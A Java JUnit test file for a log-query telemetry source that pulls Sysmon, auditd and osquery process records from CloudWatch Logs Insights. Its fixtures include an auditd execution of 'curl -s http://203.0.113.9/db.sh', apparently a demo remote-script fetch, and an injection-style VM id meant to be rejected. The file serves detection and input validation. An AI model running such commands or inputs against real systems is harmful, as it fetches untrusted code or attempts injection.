package io.runwatch.aws.logs;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.matchingJsonPath;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static com.github.tomakehurst.wiremock.stubbing.Scenario.STARTED;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.client.MappingBuilder;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import io.runwatch.aws.testing.AwsWireMock;
import io.runwatch.core.ingest.ErrorKind;
import io.runwatch.core.model.HostExecution;
import io.runwatch.core.model.TelemetryFormat;
import io.runwatch.core.telemetry.TelemetryCapture;
import io.runwatch.core.telemetry.auditd.AuditdParser;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.cloudwatchlogs.CloudWatchLogsClient;

class LogsInsightsTelemetrySourceTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String START = "Logs_20140328.StartQuery";
  private static final String RESULTS = "Logs_20140328.GetQueryResults";
  private static final String STOP = "Logs_20140328.StopQuery";
  private static final List<String> GROUPS =
      List.of("/runwatch/host/sysmon", "/runwatch/host/auditd", "/runwatch/host/osquery");
  private static final String APP = "i-0b2c3d4e5f6a7b8c9";
  private static final String DB = "i-0d4e5f6a7b8c9d0e1";

  /** A clock that only moves when the code under test waits. */
  private static final class FakeTime implements InstantSource, Pause {
    Instant now = Instant.parse("2026-11-18T04:00:00Z");
    Duration slept = Duration.ZERO;

    @Override
    public Instant instant() {
      return now;
    }

    @Override
    public void sleep(Duration d) {
      now = now.plus(d);
      slept = slept.plus(d);
    }
  }

  private WireMockServer server;
  private final FakeTime time = new FakeTime();
  private final TelemetryCapture capture = new TelemetryCapture();

  @BeforeEach
  void start() {
    server = new WireMockServer(options().dynamicPort());
    server.start();
  }

  @AfterEach
  void stop() {
    server.stop();
  }

  private LogsInsightsTelemetrySource source(LogsInsightsSettings settings, int maxAttempts) {
    return new LogsInsightsTelemetrySource(
        () -> AwsWireMock.client(CloudWatchLogsClient.builder(), server, maxAttempts),
        settings,
        vm -> vm.equals(DB) ? List.of("ip-10-0-2-21.ec2.internal", "ip-10-0-2-21") : List.of(),
        time,
        time);
  }

  private static LogsInsightsSettings settings() {
    return LogsInsightsSettings.of(GROUPS);
  }

  private static MappingBuilder call(String target) {
    return post(urlEqualTo("/")).withHeader("X-Amz-Target", equalTo(target));
  }

  private void answer(MappingBuilder request, int status, String body) {
    server.stubFor(
        request.willReturn(
            aResponse()
                .withStatus(status)
                .withHeader("Content-Type", "application/x-amz-json-1.1")
                .withBody(body)));
  }

  private void startsQuery(String queryId) {
    answer(call(START), 200, "{\"queryId\":\"" + queryId + "\"}");
  }

  private void results(String queryId, String fixture) {
    answer(
        call(RESULTS).withRequestBody(matchingJsonPath("$.queryId", equalTo(queryId))),
        200,
        fixture(fixture));
  }

  private List<LoggedRequest> sent(String target) {
    return server.findAll(postRequestedFor(anyUrl()).withHeader("X-Amz-Target", equalTo(target)));
  }

  private static JsonNode body(LoggedRequest r) throws IOException {
    return JSON.readTree(r.getBodyAsString());
  }

  static String fixture(String name) {
    try (InputStream in = LogsInsightsTelemetrySourceTest.class.getResourceAsStream(name)) {
      assertThat(in).as("fixture %s", name).isNotNull();
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  @Test
  void pollsUntilCompleteAndReportsTheSysmonExecutions() throws IOException {
    startsQuery("q-sysmon");
    MappingBuilder poll =
        call(RESULTS).withRequestBody(matchingJsonPath("$.queryId", equalTo("q-sysmon")));
    server.stubFor(
        poll.inScenario("poll")
            .whenScenarioStateIs(STARTED)
            .willReturn(okJson("{\"results\":[],\"status\":\"Scheduled\"}"))
            .willSetStateTo("running"));
    server.stubFor(
        call(RESULTS)
            .inScenario("poll")
            .whenScenarioStateIs("running")
            .willReturn(okJson(fixture("get-query-results-running-partial.json")))
            .willSetStateTo("complete"));
    server.stubFor(
        call(RESULTS)
            .inScenario("poll")
            .whenScenarioStateIs("complete")
            .willReturn(okJson(fixture("get-query-results-sysmon-complete.json"))));

    source(settings(), 1)
        .query(
            APP,
            Instant.parse("2026-11-17T14:33:30.250Z"),
            Instant.parse("2026-11-17T14:34:00.001Z"),
            capture);

    // The request the SDK sent: the window widened to whole seconds, the VM's id escaped.
    LoggedRequest start = sent(START).get(0);
    AwsWireMock.assertSigned(start, "logs");
    JsonNode b = body(start);
    assertThat(b.get("startTime").asLong()).isEqualTo(1794926010L);
    assertThat(b.get("endTime").asLong()).isEqualTo(1794926041L);
    assertThat(b.get("limit").asInt()).isEqualTo(10_000);
    assertThat(b.get("logGroupNames")).isEqualTo(JSON.valueToTree(GROUPS));
    assertThat(b.get("queryString").asText())
        .isEqualTo(
            "fields @timestamp, @message, @logStream, @log"
                + " | filter @logStream like /(^|[^A-Za-z0-9])(?:i\\-0b2c3d4e5f6a7b8c9)($|[^A-Za-z0-9])/"
                + " or @message like /(^|[^A-Za-z0-9])(?:i\\-0b2c3d4e5f6a7b8c9)($|[^A-Za-z0-9])/"
                + " | sort @timestamp asc | limit 10000");
    assertThat(sent(RESULTS)).as("Scheduled, Running, Complete").hasSize(3);
    sent(RESULTS).forEach(r -> AwsWireMock.assertSigned(r, "logs"));
    assertThat(time.slept).isEqualTo(Duration.ofMillis(500 + 1000 + 2000));

    // Only the complete answer counts: three process starts, none twice.
    assertThat(capture.errors).isEmpty();
    assertThat(capture.executions).hasSize(3);
    HostExecution worker = capture.executions.get(0);
    assertThat(worker.host()).isEqualTo("ip-10-0-3-31");
    assertThat(worker.time()).isEqualTo(Instant.parse("2026-11-17T14:33:41.734Z"));
    assertThat(worker.pid()).isEqualTo(58494L);
    assertThat(worker.image()).isEqualTo("/usr/bin/ssm-document-worker");
    assertThat(worker.commandLine())
        .isEqualTo("/usr/bin/ssm-document-worker 4350a92f-44bd-4603-81ce-32b23de5c66f");
    assertThat(worker.parentImage()).isEqualTo("/usr/bin/ssm-agent-worker");
    assertThat(worker.user()).isEqualTo("root");
    assertThat(worker.format()).isEqualTo(TelemetryFormat.SYSMON_LINUX);
    assertThat(worker.origin().source())
        .isEqualTo("logs-insights:111122223333:/runwatch/host/sysmon/" + APP);
    assertThat(capture.executions)
        .extracting(HostExecution::image)
        .containsExactly("/usr/bin/ssm-document-worker", "/usr/bin/bash", "/usr/bin/systemctl");
  }

  @Test
  void auditdRowsAreJoinedAcrossRowsAsTheFileIs() throws IOException {
    startsQuery("q-audit");
    results("q-audit", "get-query-results-auditd-shuffled.json");

    source(settings(), 1)
        .query(
            DB,
            Instant.parse("2026-11-18T03:11:00Z"),
            Instant.parse("2026-11-18T03:12:00Z"),
            capture);

    assertThat(body(sent(START).get(0)).get("queryString").asText())
        .contains(
            "(?:i\\-0d4e5f6a7b8c9d0e1|ip\\-10\\-0\\-2\\-21\\.ec2\\.internal|ip\\-10\\-0\\-2\\-21)");
    TelemetryCapture file = parseDemoAudit(589, 609);
    assertThat(file.executions).hasSize(3);
    assertThat(capture.errors).isEmpty();
    assertThat(capture.executions)
        .usingRecursiveFieldByFieldElementComparatorIgnoringFields("origin")
        .containsExactlyElementsOf(file.executions);
    HostExecution curl = capture.executions.get(2);
    assertThat(curl.host()).isEqualTo("ip-10-0-2-21");
    assertThat(curl.commandLine()).isEqualTo("curl -s http://203.0.113.9/db.sh");
    assertThat(curl.ppid()).isEqualTo(55726L);
    assertThat(curl.parentImage()).isEqualTo("/usr/bin/dash");
    assertThat(curl.eventId()).isEqualTo("43131");
    assertThat(curl.format()).isEqualTo(TelemetryFormat.AUDITD);
  }

  @Test
  void aFullAnswerIsSplitInHalvesAndAnEventCutByTheSplitIsStillJoined() throws IOException {
    answer(
        call(START)
            .withRequestBody(
                matchingJsonPath("$[?(@.startTime == 1794971487 && @.endTime == 1794971489)]")),
        200,
        "{\"queryId\":\"q-whole\"}");
    answer(
        call(START)
            .withRequestBody(
                matchingJsonPath("$[?(@.startTime == 1794971487 && @.endTime == 1794971488)]")),
        200,
        "{\"queryId\":\"q-first\"}");
    answer(
        call(START)
            .withRequestBody(
                matchingJsonPath("$[?(@.startTime == 1794971488 && @.endTime == 1794971489)]")),
        200,
        "{\"queryId\":\"q-second\"}");
    results("q-whole", "get-query-results-split-whole.json");
    results("q-first", "get-query-results-split-first-half.json");
    results("q-second", "get-query-results-split-second-half.json");

    source(settings().withLimit(20), 1)
        .query(DB, Instant.ofEpochSecond(1794971487), Instant.ofEpochSecond(1794971489), capture);

    assertThat(sent(START)).hasSize(3);
    assertThat(body(sent(START).get(0)).get("limit").asInt()).isEqualTo(20);
    assertThat(capture.errors).isEmpty();
    assertThat(capture.executions)
        .usingRecursiveFieldByFieldElementComparatorIgnoringFields("origin")
        .containsExactlyElementsOf(parseDemoAudit(589, 609).executions);
  }

  @Test
  void aWindowStillTooFullIsReportedAsTruncated() {
    startsQuery("q-whole");
    results("q-whole", "get-query-results-split-whole.json");

    source(settings().withLimit(20).withMaxSplitDepth(0), 1)
        .query(DB, Instant.ofEpochSecond(1794971487), Instant.ofEpochSecond(1794971489), capture);

    assertThat(sent(START)).hasSize(1);
    assertThat(capture.errors)
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.kind()).isEqualTo(ErrorKind.TRUNCATED);
              assertThat(e.message()).contains("returned 20 rows").contains("1 of 21");
              assertThat(e.where().source()).contains(DB);
            });
    assertThat(capture.executions).as("what was read is still reported").isNotEmpty();
  }

  @Test
  void givesUpAfterTheWaitStopsTheQueryAndReportsNothing() throws IOException {
    startsQuery("q-slow");
    answer(call(RESULTS), 200, fixture("get-query-results-running-partial.json"));
    answer(call(STOP), 200, "{\"success\":true}");

    assertThatThrownBy(
            () ->
                source(settings().withMaxWait(Duration.ofSeconds(10)), 1)
                    .query(
                        APP,
                        Instant.parse("2026-11-17T14:33:00Z"),
                        Instant.parse("2026-11-17T14:34:00Z"),
                        capture))
        .isInstanceOfSatisfying(
            TelemetryQueryException.class,
            e -> {
              assertThat(e.reason()).isEqualTo(TelemetryQueryException.Reason.TIMED_OUT);
              assertThat(e.vm()).isEqualTo(APP);
              assertThat(e.from()).isEqualTo(Instant.parse("2026-11-17T14:33:00Z"));
              assertThat(e.getMessage()).contains(APP);
            });
    assertThat(sent(STOP)).hasSize(1);
    assertThat(body(sent(STOP).get(0)).get("queryId").asText()).isEqualTo("q-slow");
    AwsWireMock.assertSigned(sent(STOP).get(0), "logs");
    assertThat(time.slept).isLessThanOrEqualTo(Duration.ofSeconds(10));
    assertThat(capture.reported()).as("no half answer").isZero();
  }

  @Test
  void throttlingPastTheRetriesIsATypedFailureNamingTheVm() {
    answer(call(START), 400, "{\"__type\":\"ThrottlingException\",\"message\":\"Rate exceeded\"}");

    assertThatThrownBy(
            () ->
                source(settings(), 1)
                    .query(
                        APP,
                        Instant.parse("2026-11-17T14:33:00Z"),
                        Instant.parse("2026-11-17T14:34:00Z"),
                        capture))
        .isInstanceOfSatisfying(
            TelemetryQueryException.class,
            e -> {
              assertThat(e.reason()).isEqualTo(TelemetryQueryException.Reason.THROTTLED);
              assertThat(e.getMessage()).contains(APP).contains("ThrottlingException");
              assertThat(e.getCause()).isNull();
            });
    assertThat(sent(START)).as("startAttempts").hasSize(4);
  }

  @Test
  void tooManyConcurrentQueriesIsRetriedWithBackoff() {
    server.stubFor(
        call(START)
            .inScenario("busy")
            .whenScenarioStateIs(STARTED)
            .willReturn(
                aResponse()
                    .withStatus(400)
                    .withBody(
                        "{\"__type\":\"LimitExceededException\",\"message\":\"Account maximum"
                            + " query concurrency limit of [30] reached.\"}"))
            .willSetStateTo("free"));
    server.stubFor(
        call(START)
            .inScenario("busy")
            .whenScenarioStateIs("free")
            .willReturn(okJson("{\"queryId\":\"q-sysmon\"}")));
    results("q-sysmon", "get-query-results-sysmon-complete.json");

    source(settings(), 1)
        .query(
            APP,
            Instant.parse("2026-11-17T14:33:00Z"),
            Instant.parse("2026-11-17T14:34:00Z"),
            capture);

    assertThat(sent(START)).hasSize(2);
    assertThat(capture.executions).hasSize(3);
  }

  @Test
  void aFailedQueryAndAccessDeniedAreTypedFailures() {
    startsQuery("q-failed");
    answer(call(RESULTS), 200, "{\"results\":[],\"status\":\"Failed\"}");
    assertThatThrownBy(
            () -> source(settings(), 1).query(APP, Instant.EPOCH, Instant.EPOCH, capture))
        .isInstanceOfSatisfying(
            TelemetryQueryException.class,
            e -> assertThat(e.reason()).isEqualTo(TelemetryQueryException.Reason.FAILED));

    server.resetAll();
    answer(
        call(START),
        400,
        "{\"__type\":\"AccessDeniedException\",\"message\":\"User: arn:aws:sts::111122223333:"
            + "assumed-role/runwatch/fn is not authorized\"}");
    assertThatThrownBy(
            () -> source(settings(), 1).query(APP, Instant.EPOCH, Instant.EPOCH, capture))
        .isInstanceOfSatisfying(
            TelemetryQueryException.class,
            e -> {
              assertThat(e.reason()).isEqualTo(TelemetryQueryException.Reason.DENIED);
              assertThat(e.getMessage()).doesNotContain("arn:");
            });

    server.resetAll();
    answer(call(START), 500, "{\"__type\":\"ServiceUnavailableException\"}");
    assertThatThrownBy(
            () -> source(settings(), 1).query(APP, Instant.EPOCH, Instant.EPOCH, capture))
        .isInstanceOfSatisfying(
            TelemetryQueryException.class, e -> assertThat(e.getMessage()).contains("HTTP 500"));
    assertThat(capture.reported()).isZero();
  }

  @Test
  void aSharedStreamGivesOnlyTheVmsOwnRecords() {
    startsQuery("q-osquery");
    results("q-osquery", "get-query-results-osquery-shared-stream.json");

    source(settings(), 1)
        .query(
            DB,
            Instant.parse("2026-11-16T06:55:00Z"),
            Instant.parse("2026-11-17T07:00:00Z"),
            capture);

    assertThat(capture.executions)
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.host()).isEqualTo(DB);
              assertThat(e.image()).isEqualTo("/usr/bin/dash");
              assertThat(e.commandLine())
                  .isEqualTo("/bin/sh -c cd / && run-parts --report /etc/cron.hourly");
              assertThat(e.pid()).isEqualTo(218148L);
              assertThat(e.format()).isEqualTo(TelemetryFormat.OSQUERY);
            });
    assertThat(capture.heard).noneMatch(h -> h.startsWith("web-3"));
  }

  @Test
  void implausibleVmIdsAreRejectedBeforeAnyRequest() {
    for (String vm : List.of("i-0b2c/ or 1=1", "*", "", "ip-10-0-3-31", "i-0B2C3D4E5F6A7B8C9")) {
      assertThatThrownBy(
              () -> source(settings(), 1).query(vm, Instant.EPOCH, Instant.EPOCH, capture))
          .isInstanceOf(IllegalArgumentException.class);
    }
    assertThat(server.getAllServeEvents()).isEmpty();
  }

  @Test
  void logGroupsComeFromTheEnvironment() {
    assertThat(
            LogsInsightsSettings.fromEnv(
                    java.util.Map.of("RUNWATCH_LOG_GROUPS", " /a/sysmon, /b/auditd ,,"))
                .logGroups())
        .containsExactly("/a/sysmon", "/b/auditd");
    assertThatThrownBy(() -> LogsInsightsSettings.fromEnv(java.util.Map.of()))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("RUNWATCH_LOG_GROUPS");
  }

  private static com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder okJson(
      String body) {
    return aResponse()
        .withStatus(200)
        .withHeader("Content-Type", "application/x-amz-json-1.1")
        .withBody(body);
  }

  /** Core's auditd parser over the demo file's lines {@code first..last}, as a file. */
  private static TelemetryCapture parseDemoAudit(int first, int last) throws IOException {
    Path demo =
        Path.of(System.getProperty("runwatch.repo", "../"))
            .resolve("infra/demo/telemetry/aws/db-audit.log");
    List<String> lines = Files.readAllLines(demo).subList(first - 1, last);
    TelemetryCapture out = new TelemetryCapture();
    new AuditdParser()
        .parse(new BufferedReader(new StringReader(String.join("\n", lines))), "file", null, out);
    return out;
  }
}
